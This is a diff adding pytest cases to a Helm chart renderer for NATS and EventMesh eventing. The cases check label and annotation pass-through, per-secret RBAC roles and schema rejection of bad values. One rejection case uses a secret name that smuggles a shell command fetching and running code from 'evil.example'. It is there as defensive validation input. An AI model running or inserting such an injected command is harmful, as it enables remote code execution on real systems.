@@ -8,6 +8,7 @@ import yaml
 
 from eventing_manager.credentials import Credentials
 from eventing_manager.errors import ChartError, HelmKilledError
+from eventing_manager.eventmesh import role_name
 from eventing_manager.names import DRAINING_ANNOTATION
 from eventing_manager.render import ChartRenderer
 from eventing_manager.spec import BackendType, EventingSpec, NatsSettings, Storage, StorageType
@@ -126,6 +127,45 @@ async def test_labels_annotations_and_resources_reach_the_pods(renderer):
     assert template["spec"]["containers"][0]["resources"] == {"limits": {"cpu": 2}}
 
 
+TEXTS = [
+    "", " ", "true", "y", "off", "null", "~", "1", "1e3", "0x1F", "0o7", "0b1", "1_000", "-.inf", "12:30:45",
+    "2026-01-01", "=", "<<", "*a", "&a", "!a", "@", "`", "a: b", "- a", "{a}", "[", "#", "|", ">", "%", "'",
+    '"', "\\", "\\n", "{{ .Values }}", "${X}", "a\n\nb\n", "\t", "\r\n", "\x00\x07\x1b\x7f", "\x85\xa0",
+    "\u200b\u2028\ufeff\ufffe", "ü", "/", "x" * 300,
+]  # fmt: skip
+
+
+async def test_every_text_reaches_the_pods_as_the_text_it_is(renderer):
+    annotations = {f"a{number}": text for number, text in enumerate(TEXTS)}
+    keys = ["true", "n", "null", "1", "1e3", "0x1F", "1_000", "2026-01-01", "a.b/c_d", "a.b/1"]
+    labels = dict.fromkeys(keys, "1e3")
+
+    objects = await rendered(renderer, annotations={**annotations, **labels}, labels=labels)
+
+    metadata = objects["StatefulSet", "eventing-nats"]["spec"]["template"]["metadata"]
+    assert {**annotations, **labels}.items() <= metadata["annotations"].items()
+    assert labels.items() <= metadata["labels"].items()
+
+
+async def test_an_image_may_be_pinned_by_its_digest(renderer):
+    tag = f"2.15.1-alpine@sha256:{'0' * 64}"
+
+    objects = await renderer.render({"nats": {**ENABLED["nats"], "image": {"tag": tag}}})
+
+    (statefulset,) = [obj for obj in objects if obj["kind"] == "StatefulSet"]
+    assert statefulset["spec"]["template"]["spec"]["containers"][0]["image"] == f"nats:{tag}"
+
+
+async def test_a_namespace_that_looks_like_a_number_is_a_name_in_every_object(helm, backend_chart):
+    renderer = ChartRenderer(helm=helm, chart=backend_chart, release="eventing", namespace="1e3")
+    all_of_it = {"replicas": 3, "destinationRule": {"enabled": True}, "serviceMonitor": {"enabled": True}}
+
+    objects = await renderer.render({"nats": {**ENABLED["nats"], **all_of_it}})
+
+    assert {obj["metadata"]["namespace"] for obj in objects} == {"1e3"}
+    assert len({obj["kind"] for obj in objects}) == 8, "every template makes an object"
+
+
 async def test_clients_authenticate_with_what_the_secret_says(renderer):
     objects = await rendered(renderer)
 
@@ -190,6 +230,31 @@ def assert_hardened(pod):
         ({"nats": {"enabled": True, "replicas": 2}}, "replicas"),
         ({"nats": {"enabled": True, "storage": {"type": "tape"}}}, "type"),
         ({"natz": {"enabled": True}}, "natz"),
+        ({"nats": {}, "global": {"a": 1}}, "'a' not allowed"),
+        ({"nats": {"enabled": None}}, "missing property 'enabled'"),
+        ({"nats": {"enabled": True, "auth": {"salt": 1}}}, "auth/salt'"),
+        ({"nats": {"enabled": True, "auth": {"salt": None}}}, "'salt'"),
+        ({"nats": {"enabled": True, "auth": {"salt": "x" * 1025}}}, "auth/salt'"),
+        ({"nats": {"enabled": True, "auth": {"password": 1}}}, "auth/password'"),
+        ({"nats": {"enabled": True, "auth": {"password": "x" * 1025}}}, "auth/password'"),
+        ({"nats": {"enabled": True, "auth": {"user": ""}}}, "auth/user'"),
+        ({"nats": {"enabled": True, "auth": {"token": "x"}}}, "'token' not allowed"),
+        ({"nats": {"enabled": True, "draining": "true"}}, "draining'"),
+        ({"nats": {"enabled": True, "replicas": "3"}}, "replicas'"),
+        ({"nats": {"enabled": True, "storage": {"size": 1}}}, "storage/size'"),
+        ({"nats": {"enabled": True, "storage": {"bytes": 0}}}, "storage/bytes'"),
+        ({"nats": {"enabled": True, "storage": {"bytes": 2**63}}}, "storage/bytes'"),
+        ({"nats": {"enabled": True, "storage": {"bytes": -(2**63)}}}, "storage/bytes'"),
+        ({"nats": {"enabled": True, "storage": {"className": "a b"}}}, "storage/className'"),
+        ({"nats": {"enabled": True, "memoryStoreBytes": -1}}, "memoryStoreBytes'"),
+        ({"nats": {"enabled": True, "image": {"tag": ""}}}, "image/tag'"),
+        ({"nats": {"enabled": True, "image": {"tag": "1\n2"}}}, "image/tag'"),
+        ({"nats": {"enabled": True, "image": {"repository": 'a" b'}}}, "image/repository'"),
+        ({"nats": {"enabled": True, "image": {"pullPolicy": "Sometimes"}}}, "image/pullPolicy'"),
+        ({"nats": {"enabled": True, "podLabels": {"a": 1}}}, "podLabels/a'"),
+        ({"nats": {"enabled": True, "podAnnotations": {"a": None}}}, "podAnnotations/a'"),
+        ({"nats": {"enabled": True, "resources": {"limits": {"cpu": True}}}}, "resources/limits/cpu'"),
+        ({"nats": {"enabled": True, "resources": {"claims": []}}}, "'claims' not allowed"),
     ],
 )
 async def test_a_wrong_value_is_refused_by_name(renderer, values, named):
@@ -303,6 +368,128 @@ async def test_no_rule_of_the_manager_has_a_wildcard(helm, module_chart):
     rules = [rule for role in roles for rule in role["rules"]]
     assert rules
     assert not [rule for rule in rules if any("*" in values for values in rule.values())]
+
+
+NAMES_OF_SECRETS = [
+    "backend",
+    "leader-election",
+    "eventmesh-a",
+    "a.b",
+    "1",
+    "true",
+    "1e3",
+    "x" * 226,
+    "x" * 227,
+    "x" * 253,
+]
+
+
+async def test_every_eventmesh_secret_has_a_role_of_its_own(helm, module_chart):
+    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")
+    secrets = [
+        {"namespace": namespace, "name": name}
+        for namespace in ("kyma-system", "1e3")
+        for name in NAMES_OF_SECRETS
+    ]
+
+    objects = await renderer.render({"eventmesh": {"secrets": secrets}})
+
+    roles = {identity(obj): obj for obj in objects if obj["kind"] == "Role"}
+    bindings = {identity(obj): obj for obj in objects if obj["kind"] == "RoleBinding"}
+    assert len(roles) == len([obj for obj in objects if obj["kind"] == "Role"]), "no two have one name"
+    assert roles.keys() == bindings.keys()
+    for secret in secrets:
+        key = (secret["namespace"], role_name(secret["name"]))
+        assert roles[key]["rules"] == [
+            {
+                "apiGroups": [""],
+                "resources": ["secrets"],
+                "resourceNames": [secret["name"]],
+                "verbs": ["get", "list", "watch"],
+            }
+        ]
+        assert bindings[key]["roleRef"]["name"] == role_name(secret["name"])
+
+
+def identity(obj):
+    return obj["metadata"]["namespace"], obj["metadata"]["name"]
+
+
+@pytest.mark.parametrize(
+    ("values", "arguments"),
+    [
+        ({}, ["--leader-elect", "--serve-namespaces=kcp-system,kyma-system"]),
+        ({"serveNamespaces": ["shop"]}, ["--leader-elect", "--serve-namespaces=shop"]),
+        ({"serveNamespaces": ["1e3", "true"]}, ["--leader-elect", "--serve-namespaces=1e3,true"]),
+        ({"serveNamespaces": []}, ["--leader-elect"]),
+        ({"serveNamespaces": [""]}, ["--leader-elect"]),  # serveNamespaces={}, as helm's --set reads it
+        (
+            {"serveNamespaces": ["a"], "extraArgs": ["--serve-namespaces=b", 'x: "y']},
+            ["--leader-elect", "--serve-namespaces=a", "--serve-namespaces=b", 'x: "y'],
+        ),
+    ],
+)
+async def test_the_manager_is_told_whom_to_serve(helm, module_chart, values, arguments):
+    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")
+
+    (deployment,) = [obj for obj in await renderer.render(values) if obj["kind"] == "Deployment"]
+
+    assert deployment["spec"]["template"]["spec"]["containers"][0]["args"] == arguments
+
+
+async def test_the_manager_may_look_whether_it_is_being_removed(helm, module_chart):
+    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")
+
+    roles = [obj for obj in await renderer.render({}) if obj["kind"] in {"Role", "ClusterRole"}]
+
+    rules = {
+        (resource, name): set(rule["verbs"])
+        for role in roles
+        for rule in role["rules"]
+        for resource in rule["resources"]
+        for name in rule.get("resourceNames", [])
+    }
+    assert rules["customresourcedefinitions", "eventings.operator.kyma-project.io"] == {"list", "watch"}
+    assert rules["deployments", "eventing-controller-manager"] == {"get", "list", "watch"}
+
+
+def of_secret(**changes):
+    return {"eventmesh": {"secrets": [{"namespace": "shop", "name": "mesh", **changes}]}}
+
+
+@pytest.mark.parametrize(
+    ("values", "named"),
+    [
+        (of_secret(name="x;curl evil.example|sh;#"), "secrets/0/name'"),
+        (of_secret(name="mesh\n"), "secrets/0/name'"),
+        (of_secret(name='"'), "secrets/0/name'"),
+        (of_secret(name="Mesh"), "secrets/0/name'"),
+        (of_secret(name="x" * 254), "secrets/0/name'"),
+        (of_secret(name=1), "secrets/0/name'"),
+        (of_secret(namespace="shop/mesh"), "secrets/0/namespace'"),
+        (of_secret(namespace="a.b"), "secrets/0/namespace'"),
+        (of_secret(namespace="x" * 64), "secrets/0/namespace'"),
+        (of_secret(key="a"), "'key' not allowed"),
+        ({"eventmesh": {"secrets": of_secret()["eventmesh"]["secrets"] * 2}}, "items at 0 and 1"),
+        ({"serveNamespaces": "kcp-system"}, "serveNamespaces'"),
+        ({"serveNamespaces": ["a,b"]}, "serveNamespaces/0'"),
+        ({"serveNamespaces": [" "]}, "serveNamespaces/0'"),
+        ({"serveNamespaces": ["*"]}, "serveNamespaces/0'"),
+        ({"serveNamespaces": ["a", "a"]}, "items at 0 and 1"),
+        ({"extraArgs": [1]}, "extraArgs/0'"),
+        ({"image": {"tag": 2022}}, "image/tag'"),
+        ({"image": {"repository": "a b"}}, "image/repository'"),
+        ({"replicas": 0}, "replicas'"),
+        ({"resources": {"limits": {"cpu": True}}}, "resources/limits/cpu'"),
+        ({"serveNamespaces": None}, "missing property 'serveNamespaces'"),
+        ({"serveNamespace": []}, "'serveNamespace' not allowed"),
+    ],
+)
+async def test_a_wrong_value_of_the_module_is_refused_by_name(helm, module_chart, values, named):
+    renderer = ChartRenderer(helm=helm, chart=module_chart, release="eventing", namespace="default")
+
+    with pytest.raises(ChartError, match=named):
+        await renderer.render(values)
 
 
 def test_every_field_of_the_crd_is_described(module_chart):
